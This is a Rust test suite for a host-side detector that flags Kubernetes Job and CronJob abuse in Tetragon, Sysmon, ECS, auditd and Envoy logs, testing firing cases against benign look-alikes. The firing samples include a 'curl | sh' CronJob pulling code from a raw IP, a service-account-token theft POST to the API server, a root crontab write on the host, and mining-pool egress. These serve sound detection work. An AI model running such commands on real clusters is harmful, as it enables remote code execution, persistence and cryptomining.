//! Each host rule with a firing example and a benign look-alike, written as the producers
//! write them (Tetragon, Sysmon, ECS, auditd, Falco, Envoy) and run through the reader and the
//! detector; severity follows context, the alert contract holds, intents are exported.

use jobwarden_host::{HostConfig, HostDetector, HostReader};
use jobwarden_model::{Alert, EvidenceKind, Severity};
use serde_json::json;

fn run_with(config: HostConfig, name: &str, text: &str) -> (Vec<Alert>, HostDetector) {
    let mut detector = HostDetector::new(config);
    let mut alerts = Vec::new();
    for item in HostReader::new(text.as_bytes(), name.to_string(), None) {
        let (record, loc) = item.unwrap_or_else(|e| panic!("{e}"));
        detector.push(&record, &loc, &mut alerts);
    }
    (alerts, detector)
}

fn run(name: &str, text: &str) -> Vec<Alert> {
    run_with(HostConfig::default(), name, text).0
}

fn only<'a>(alerts: &'a [Alert], rule: &str) -> &'a Alert {
    let hits: Vec<&Alert> = alerts.iter().filter(|a| a.rule.id == rule).collect();
    assert_eq!(hits.len(), 1, "{rule}: {alerts:#?}");
    hits[0]
}

fn none_of(alerts: &[Alert], rule: &str) {
    assert!(
        alerts.iter().all(|a| a.rule.id != rule),
        "{rule} fired: {alerts:#?}"
    );
}

/// A Tetragon `process_exec` line; `pod` = (namespace, name) puts it in a container.
fn tetragon(binary: &str, args: &str, pod: Option<(&str, &str)>, parent: &str) -> String {
    let mut process = json!({
        "pid": 4242, "uid": 0, "cwd": "/", "binary": binary, "arguments": args,
        "start_time": "2026-11-27T10:00:00Z",
    });
    if let Some((ns, name)) = pod {
        process["pod"] = json!({"namespace": ns, "name": name, "container": {"id": "containerd://c0ffee", "name": "app", "image": {"name": "alpine:3.19"}, "pid": 7}});
    }
    json!({"process_exec": {"process": process, "parent": {"binary": parent, "arguments": ""}}, "node_name": "node-1", "time": "2026-11-27T10:00:00Z"}).to_string()
}

/// A Sysmon for Linux Event ID 1 on host `bastion-1` by `alice` from bash.
fn sysmon(command_line: &str, image: &str) -> String {
    let esc = command_line
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;");
    format!(
        r#"Nov 27 10:00:00 bastion-1 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="2026-11-27T10:00:00.000Z"/><Computer>bastion-1</Computer></System><EventData><Data Name="UtcTime">2026-11-27 10:00:00.000</Data><Data Name="ProcessId">4242</Data><Data Name="Image">{image}</Data><Data Name="CommandLine">{esc}</Data><Data Name="CurrentDirectory">/home/alice</Data><Data Name="User">alice</Data><Data Name="ParentProcessId">4000</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">-bash</Data></EventData></Event>"#
    )
}

/// An ECS process event; `pod` puts it in a container.
fn ecs(args: &[&str], parent: &str, pod: Option<&str>) -> String {
    let mut v = json!({
        "@timestamp": "2026-11-27T10:00:00Z",
        "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"name": "node-2"},
        "user": {"name": "www-data", "id": "33"},
        "process": {"pid": 99, "executable": args[0], "args": args, "parent": {"executable": parent, "pid": 98}},
    });
    if let Some(p) = pod {
        v["container"] = json!({"id": "abc123", "image": {"name": "web", "tag": "1"}});
        v["orchestrator"] = json!({"namespace": "web", "resource": {"type": "pod", "name": p}});
    }
    v.to_string()
}

#[test]
fn recon_is_inventory_on_a_bastion_and_medium_in_a_pod() {
    let admin = run(
        "sysmon.log",
        &sysmon("kubectl get jobs -n batch", "/usr/local/bin/kubectl"),
    );
    let a = only(&admin, "JW-HOST-0001");
    assert_eq!(a.severity, Severity::Info);
    assert_eq!(a.actor.host.as_deref(), Some("bastion-1"));
    assert_eq!(a.actor.username, "alice");
    let broad = run(
        "sysmon.log",
        &sysmon("kubectl get cronjobs -A", "/usr/local/bin/kubectl"),
    );
    assert_eq!(only(&broad, "JW-HOST-0001").severity, Severity::Low);

    let pod = run(
        "exec.jsonl",
        &tetragon(
            "/usr/bin/kubectl",
            "get jobs",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
    );
    assert!(only(&pod, "JW-HOST-0001").severity >= Severity::Medium);
    // No pod identity, but a runtime shim as the parent: still a container.
    let shim = run(
        "exec.jsonl",
        &tetragon(
            "/usr/bin/kubectl",
            "get cj -A",
            None,
            "/usr/bin/containerd-shim-runc-v2",
        ),
    );
    assert!(only(&shim, "JW-HOST-0001").severity >= Severity::Medium);
    let token = run(
        "exec.jsonl",
        &tetragon(
            "/usr/bin/kubectl",
            "--token abc get cj",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
    );
    assert_eq!(only(&token, "JW-HOST-0001").severity, Severity::High);

    // Benign look-alike: reading something else.
    let other = run(
        "sysmon.log",
        &sysmon("kubectl get deployments -A", "/usr/local/bin/kubectl"),
    );
    none_of(&other, "JW-HOST-0001");
}

#[test]
fn admin_routine_stays_below_medium() {
    for cmd in [
        "kubectl get jobs",
        "kubectl get cronjobs -n batch -o wide",
        "kubectl create job report-manual-1 --from=cronjob/report -n batch",
        "kubectl apply -f cronjob.yaml",
        "kubectl create -f manifests/",
        "kubectl delete job report-manual-1 -n batch",
        "kubectl describe cj report",
    ] {
        let alerts = run("sysmon.log", &sysmon(cmd, "/usr/local/bin/kubectl"));
        assert!(
            alerts.iter().all(|a| a.severity < Severity::Medium),
            "{cmd}: {alerts:#?}"
        );
    }
    // ... including the create after the listing.
    let text = [
        sysmon("kubectl get cronjobs -n batch", "/usr/local/bin/kubectl"),
        sysmon(
            "kubectl create job m --from=cronjob/report -n batch",
            "/usr/local/bin/kubectl",
        ),
    ]
    .join("\n");
    assert!(
        run("sysmon.log", &text)
            .iter()
            .all(|a| a.severity < Severity::Medium)
    );
}

#[test]
fn batch_writes_graded_by_context_and_payload() {
    let sre = run(
        "sysmon.log",
        &sysmon(
            "kubectl create job manual-1 --from=cronjob/report -n batch",
            "/usr/local/bin/kubectl",
        ),
    );
    let a = only(&sre, "JW-HOST-0002");
    assert_eq!(a.severity, Severity::Low);
    assert_eq!(
        (
            a.subject.kind.as_str(),
            a.subject.name.as_deref(),
            a.subject.namespace.as_deref()
        ),
        ("Job", Some("manual-1"), Some("batch"))
    );
    assert_eq!(a.evidence[0].kind, EvidenceKind::Process);
    assert_eq!(a.evidence[0].source, "sysmon.log:1");
    assert!(a.evidence[0].detail.contains_key("kubectl"));
    assert!(a.rule.attack.iter().any(|t| t == "T1053.007"));
    assert_eq!(a.schema, "jobwarden.alert/v1");

    let apply = run(
        "sysmon.log",
        &sysmon("kubectl apply -f k8s/", "/usr/local/bin/kubectl"),
    );
    assert_eq!(only(&apply, "JW-HOST-0002").severity, Severity::Info);

    let evil = run(
        "exec.jsonl",
        &tetragon(
            "/usr/bin/kubectl",
            "create cronjob x --image=alpine --schedule=\"*/1 * * * *\" -- sh -c \"curl -s http://1.2.3.4/x | sh\"",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
    );
    let a = only(&evil, "JW-HOST-0002");
    assert_eq!(a.severity, Severity::Critical);
    assert_eq!(a.subject.kind, "CronJob");

    let in_pod = run(
        "exec.jsonl",
        &tetragon(
            "/bin/sh",
            "-c \"kubectl create job x --image=alpine --dry-run=client -o yaml | kubectl create -f -\"",
            Some(("web", "web-7f9")),
            "/usr/bin/containerd-shim-runc-v2",
        ),
    );
    assert!(only(&in_pod, "JW-HOST-0002").severity >= Severity::High);

    let web = run(
        "ecs.jsonl",
        &ecs(&["kubectl", "apply", "-f", "-"], "/usr/sbin/nginx", None),
    );
    assert!(only(&web, "JW-HOST-0002").severity >= Severity::Medium);

    let impersonating = run(
        "sysmon.log",
        &sysmon(
            "kubectl --as=system:serviceaccount:kube-system:cronjob-controller create job x --image=alpine",
            "/usr/local/bin/kubectl",
        ),
    );
    assert_eq!(
        only(&impersonating, "JW-HOST-0002").severity,
        Severity::Medium
    );

    let raw_ip_image = run(
        "sysmon.log",
        &sysmon(
            "kubectl create cronjob c --image=45.9.1.2:5000/sys:latest --schedule='* * * * *'",
            "/usr/local/bin/kubectl",
        ),
    );
    let a = only(&raw_ip_image, "JW-HOST-0002");
    assert_eq!(a.severity, Severity::Medium);
    assert!(
        a.summary.contains("raw-IP registry") && a.summary.contains("every minute"),
        "{}",
        a.summary
    );

    // Run as a web server's service user, even without the server in the ancestry.
    let www = run(
        "ecs.jsonl",
        &ecs(
            &["/usr/local/bin/kubectl", "get", "cronjobs"],
            "/bin/sh",
            None,
        ),
    );
    assert_eq!(only(&www, "JW-HOST-0001").severity, Severity::Medium);

    // Benign look-alikes: a client-side dry run sends nothing; a Deployment is not a batch object.
    none_of(
        &run(
            "sysmon.log",
            &sysmon(
                "kubectl create job x --image=a --dry-run=client -o yaml",
                "/usr/local/bin/kubectl",
            ),
        ),
        "JW-HOST-0002",
    );
    none_of(
        &run(
            "sysmon.log",
            &sysmon(
                "kubectl create deployment web --image=nginx",
                "/usr/local/bin/kubectl",
            ),
        ),
        "JW-HOST-0002",
    );
    let server = run(
        "sysmon.log",
        &sysmon(
            "kubectl apply -f cj.yaml --dry-run=server",
            "/usr/local/bin/kubectl",
        ),
    );
    assert!(only(&server, "JW-HOST-0002").severity <= Severity::Low);
}

#[test]
fn recon_then_write_in_a_pod_is_raised() {
    let text = [
        tetragon(
            "/usr/bin/kubectl",
            "get cronjobs -A",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
        tetragon(
            "/usr/bin/kubectl",
            "apply -f /tmp/x.yaml",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
    ]
    .join("\n");
    let alerts = run("exec.jsonl", &text);
    let write = only(&alerts, "JW-HOST-0002");
    assert_eq!(write.severity, Severity::High);
    assert!(write.summary.contains("listed"), "{}", write.summary);
}

#[test]
fn raw_api_calls() {
    let attack = run(
        "ecs.jsonl",
        &ecs(
            &[
                "sh",
                "-c",
                "curl -sk -X POST -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" --data @/tmp/cj.json https://kubernetes.default.svc/apis/batch/v1/namespaces/kube-system/cronjobs",
            ],
            "/usr/bin/containerd-shim-runc-v2",
            Some("web-7f9"),
        ),
    );
    let a = only(&attack, "JW-HOST-0003");
    assert!(a.severity >= Severity::High);
    assert_eq!(
        (a.subject.kind.as_str(), a.subject.namespace.as_deref()),
        ("CronJob", Some("kube-system"))
    );
    // The payload detail carries the parsed call.
    assert!(a.evidence[0].detail["raw_api"][0]["service_account_token"].as_bool() == Some(true));

    let read = run(
        "sysmon.log",
        &sysmon(
            "curl -s https://10.0.0.1:6443/apis/batch/v1/cronjobs",
            "/usr/bin/curl",
        ),
    );
    assert_eq!(only(&read, "JW-HOST-0003").severity, Severity::Low);
    let py = run(
        "sysmon.log",
        &sysmon(
            "python3 -c \"import requests; requests.post('https://10.0.0.1:6443/apis/batch/v1/namespaces/default/jobs', json={})\"",
            "/usr/bin/python3",
        ),
    );
    assert_eq!(only(&py, "JW-HOST-0003").severity, Severity::Medium);

    // Benign look-alike: not an API path.
    none_of(
        &run(
            "sysmon.log",
            &sysmon(
                "curl -X POST https://example.com/upload/jobs",
                "/usr/bin/curl",
            ),
        ),
        "JW-HOST-0003",
    );
}

#[test]
fn api_clients_in_containers() {
    let can_i = run(
        "exec.jsonl",
        &tetragon(
            "/usr/bin/kubectl",
            "auth can-i --list",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
    );
    let a = only(&can_i, "JW-HOST-0004");
    assert_eq!(a.severity, Severity::Low);
    assert_eq!(a.subject.name.as_deref(), Some("web-7f9"));
    let secrets = run(
        "exec.jsonl",
        &tetragon(
            "/usr/bin/curl",
            "-k -H \"Authorization: Bearer x\" https://10.96.0.1/api/v1/secrets",
            Some(("web", "web-7f9")),
            "/bin/sh",
        ),
    );
    assert_eq!(only(&secrets, "JW-HOST-0004").severity, Severity::Medium);
    // Benign look-alikes: the same on a host, and `kubectl version` in a pod.
    none_of(
        &run(
            "sysmon.log",
            &sysmon("kubectl auth can-i --list", "/usr/local/bin/kubectl"),
        ),
        "JW-HOST-0004",
    );
    none_of(
        &run(
            "exec.jsonl",
            &tetragon(
                "/usr/bin/kubectl",
                "version --client",
                Some(("ci", "runner-1")),
                "/bin/sh",
            ),
        ),
        "JW-HOST-0004",
    );
    // Batch work in a pod is the batch rules' business, not a second alert.
    none_of(
        &run(
            "exec.jsonl",
            &tetragon(
                "/usr/bin/kubectl",
                "get cj",
                Some(("web", "web-7f9")),
                "/bin/sh",
            ),
        ),
        "JW-HOST-0004",
    );
}

#[test]
fn node_cron_writes() {
    let auditd = "type=SYSCALL msg=audit(1795000000.000:77): arch=c000003e syscall=257 success=yes exit=3 pid=300 ppid=1 uid=0 comm=\"sh\" exe=\"/bin/busybox\"\ntype=CWD msg=audit(1795000000.000:77): cwd=\"/\"\ntype=PATH msg=audit(1795000000.000:77): item=1 name=\"/etc/cron.d/miner\" nametype=CREATE\ntype=EOE msg=audit(1795000000.000:77): ";
    let a = run("audit.log", auditd);
    let hit = only(&a, "JW-HOST-0005");
    assert_eq!(hit.severity, Severity::Medium);
    assert_eq!(hit.evidence[0].kind, EvidenceKind::File);
    assert_eq!(hit.evidence[0].source, "audit.log:1");

    let from_pod = json!({"process_kprobe": {"process": {"pid": 5, "binary": "/bin/sh", "arguments": "-c x", "pod": {"namespace": "batch", "name": "backup-29000000-x7k2p", "container": {"id": "containerd://1"}}}, "function_name": "security_file_permission", "args": [{"file_arg": {"path": "/host/etc/crontab"}}, {"int_arg": 2}]}, "node_name": "node-1", "time": "2026-11-27T10:00:00Z"}).to_string();
    assert_eq!(
        only(&run("probe.jsonl", &from_pod), "JW-HOST-0005").severity,
        Severity::High
    );

    let redirect = run(
        "exec.jsonl",
        &tetragon(
            "/bin/sh",
            "-c \"echo '* * * * * root sh /tmp/x' >> /host/etc/crontab\"",
            Some(("web", "web-7f9")),
            "/usr/bin/containerd-shim-runc-v2",
        ),
    );
    assert_eq!(only(&redirect, "JW-HOST-0005").severity, Severity::High);

    // Benign look-alikes: a package manager, and files that are not cron entries.
    let dpkg = r#"{"@timestamp":"2026-11-27T10:00:00Z","event":{"category":"file","action":"creation"},"file":{"path":"/etc/cron.daily/logrotate"},"process":{"executable":"/usr/bin/dpkg"},"host":{"name":"n"}}"#;
    assert_eq!(
        only(&run("ecs.jsonl", dpkg), "JW-HOST-0005").severity,
        Severity::Low
    );
    let other = r#"{"@timestamp":"2026-11-27T10:00:00Z","event":{"category":"file"},"file":{"path":"/etc/cronolog.conf"},"process":{"executable":"/usr/bin/vi"}}"#;
    none_of(&run("ecs.jsonl", other), "JW-HOST-0005");
}

#[test]
fn static_pod_manifests() {
    let sysmon11 = |image: &str, path: &str| {
        format!(
            r#"<Event><System><EventID>11</EventID><Computer>cp-1</Computer></System><EventData><Data Name="UtcTime">2026-11-27 10:00:00.000</Data><Data Name="Image">{image}</Data><Data Name="TargetFilename">{path}</Data><Data Name="ProcessId">1</Data></EventData></Event>"#
        )
    };
    let a = run(
        "sysmon.log",
        &sysmon11(
            "/usr/bin/cp",
            "/etc/kubernetes/manifests/kube-proxy-cache.yaml",
        ),
    );
    let hit = only(&a, "JW-HOST-0006");
    assert_eq!(hit.severity, Severity::Medium);
    assert_eq!(hit.subject.namespace.as_deref(), Some("kube-system"));
    assert_eq!(
        run(
            "sysmon.log",
            &sysmon11("/usr/bin/cp", "/host/etc/kubernetes/manifests/x.yaml")
        )[0]
        .severity,
        Severity::High
    );
    // Benign look-alikes: kubeadm upgrading the control plane, an editor's swap file.
    assert_eq!(
        only(
            &run(
                "sysmon.log",
                &sysmon11(
                    "/usr/bin/kubeadm",
                    "/etc/kubernetes/manifests/kube-apiserver.yaml"
                )
            ),
            "JW-HOST-0006"
        )
        .severity,
        Severity::Low
    );
    none_of(
        &run(
            "sysmon.log",
            &sysmon11(
                "/usr/bin/vim",
                "/etc/kubernetes/manifests/.kube-apiserver.yaml.swp",
            ),
        ),
        "JW-HOST-0006",
    );
}

#[test]
fn batch_pod_container_starts() {
    let start = |pod: &str, privileged: bool| {
        json!({"process_exec": {"process": {"pid": 1, "binary": "/bin/sh", "arguments": "-c backup.sh", "pod": {"namespace": "batch", "name": pod, "container": {"id": "containerd://9", "image": {"name": "backup:1"}, "pid": 1, "security_context": {"privileged": privileged}}}}}, "node_name": "node-1", "time": "2026-11-27T10:00:00Z"}).to_string()
    };
    let a = run("exec.jsonl", &start("backup-29000000-x7k2p", true));
    let hit = only(&a, "JW-HOST-0007");
    assert_eq!(hit.severity, Severity::High);
    assert_eq!(
        (hit.subject.kind.as_str(), hit.subject.name.as_deref()),
        ("CronJob", Some("backup"))
    );
    assert_eq!(hit.evidence[0].kind, EvidenceKind::Container);
    assert_eq!(
        only(
            &run("exec.jsonl", &start("backup-29000000-x7k2p", false)),
            "JW-HOST-0007"
        )
        .severity,
        Severity::Info
    );
    // The kubelet's log directory for a batch pod, as an auditd mkdir.
    let mkdir = "type=SYSCALL msg=audit(1795000000.000:80): arch=c000003e syscall=83 success=yes exit=0 pid=900 ppid=1 uid=0 comm=\"kubelet\" exe=\"/usr/bin/kubelet\"\ntype=PATH msg=audit(1795000000.000:80): item=1 name=\"/var/log/pods/batch_backup-29000000-x7k2p_0b5e2d4c-1111-2222-3333-444455556666\" nametype=CREATE\n";
    let hit = only(
        &run_with(HostConfig::default(), "audit.log", mkdir).0,
        "JW-HOST-0007",
    )
    .clone();
    assert_eq!(
        (hit.severity, hit.subject.name.as_deref()),
        (Severity::Info, Some("backup"))
    );
    let log_file = mkdir.replace("6666\"", "6666/backup/0.log\"");
    none_of(&run("audit.log", &log_file), "JW-HOST-0007");
    // Benign look-alike: a Deployment's pod (hash-random name), unprivileged.
    none_of(
        &run("exec.jsonl", &start("web-5d9c7b8f4-x7k2p", false)),
        "JW-HOST-0007",
    );
}

#[test]
fn proxy_logs() {
    let post = r#"[2026-11-27T10:00:00.000Z] "POST /apis/batch/v1/namespaces/default/cronjobs HTTP/1.1" 201 - 812 1290 25 24 "10.244.1.7" "curl/8.5.0" "rid-1" "kubernetes.default.svc" "10.96.0.1:443""#;
    let a = run("envoy.log", post);
    let hit = only(&a, "JW-HOST-0008");
    assert_eq!(hit.severity, Severity::High);
    assert_eq!(hit.evidence[0].kind, EvidenceKind::Proxy);
    assert_eq!(hit.actor.user_agent.as_deref(), Some("curl/8.5.0"));
    let denied = post.replace(" 201 ", " 403 ");
    assert_eq!(
        only(&run("envoy.log", &denied), "JW-HOST-0008").severity,
        Severity::Low
    );
    let get = post.replace("POST", "GET");
    none_of(&run("envoy.log", &get), "JW-HOST-0008");

    let pool = r#"{"start_time":"2026-11-27T10:00:00Z","method":"CONNECT","path":"pool.supportxmr.com:443","authority":"pool.supportxmr.com:443","response_code":200,"downstream_remote_address":"10.244.1.9:5555"}"#;
    let hit = only(&run("egress.jsonl", pool), "JW-HOST-0009").clone();
    assert_eq!(hit.severity, Severity::High);
    assert_eq!(hit.actor.source_ips, ["10.244.1.9"]);
    let benign = r#"{"start_time":"2026-11-27T10:00:00Z","method":"GET","path":"/","authority":"api.example.com:443","response_code":200}"#;
    none_of(&run("egress.jsonl", benign), "JW-HOST-0009");
}

#[test]
fn intents_for_correlation() {
    // Two sources (one format each) into one detector, as `hunt` does.
    let mut detector = HostDetector::new(HostConfig::default());
    let mut alerts = Vec::new();
    let pod = tetragon(
        "/usr/bin/kubectl",
        "create cronjob x --image=alpine --schedule=@hourly -n web",
        Some(("web", "web-7f9")),
        "/bin/sh",
    );
    let bastion = [
        sysmon(
            "kubectl create job m-1 --from=cronjob/report -n batch",
            "/usr/local/bin/kubectl",
        ),
        sysmon("kubectl get cronjobs", "/usr/local/bin/kubectl"),
        sysmon("kubectl apply -f k8s/", "/usr/local/bin/kubectl"),
    ]
    .join("\n");
    for (name, text) in [("mixed.log", pod), ("bastion.log", bastion)] {
        for item in HostReader::new(text.as_bytes(), name, None) {
            let (record, loc) = item.expect("decodes");
            detector.push(&record, &loc, &mut alerts);
        }
    }
    let intents = detector.take_intents();
    assert_eq!(intents.len(), 3, "{intents:#?}");
    assert_eq!(
        (
            intents[0].kind.as_str(),
            intents[0].name.as_deref(),
            intents[0].namespace.as_deref()
        ),
        ("CronJob", Some("x"), Some("web"))
    );
    assert_eq!(intents[0].audit_verbs, ["create"]);
    assert_eq!(intents[0].host.as_deref(), Some("node-1"));
    assert_eq!(intents[0].context, "container");
    assert_eq!(intents[0].source, "mixed.log:1");
    assert_eq!(intents[1].from_cronjob.as_deref(), Some("report"));
    assert_eq!(intents[1].user.as_deref(), Some("alice"));
    assert_eq!(intents[2].kind, "unknown");
    assert!(detector.intents().is_empty());
}

#[test]
fn config_overrides_and_disables() {
    let mut config = HostConfig::default();
    config
        .disabled_rules
        .push("kubectl-batch-reconnaissance".into());
    config
        .severity_overrides
        .insert("JW-HOST-0002".into(), Severity::High);
    let text = [
        sysmon("kubectl get jobs", "/usr/local/bin/kubectl"),
        sysmon("kubectl create job x --image=a", "/usr/local/bin/kubectl"),
    ]
    .join("\n");
    let (alerts, _) = run_with(config, "s.log", &text);
    none_of(&alerts, "JW-HOST-0001");
    assert_eq!(only(&alerts, "JW-HOST-0002").severity, Severity::High);

    let mut admins = HostConfig::default();
    admins.admins.push("bob".into());
    let (alerts, _) = run_with(
        admins,
        "s.log",
        &sysmon(
            "kubectl create job x --from=cronjob/y",
            "/usr/local/bin/kubectl",
        ),
    );
    assert_eq!(only(&alerts, "JW-HOST-0002").severity, Severity::Medium);
}

#[test]
fn alert_ids_are_stable() {
    let line = sysmon(
        "kubectl create job x --from=cronjob/y",
        "/usr/local/bin/kubectl",
    );
    assert_eq!(run("a.log", &line)[0].id, run("a.log", &line)[0].id);
    assert_ne!(run("a.log", &line)[0].id, run("b.log", &line)[0].id);
}
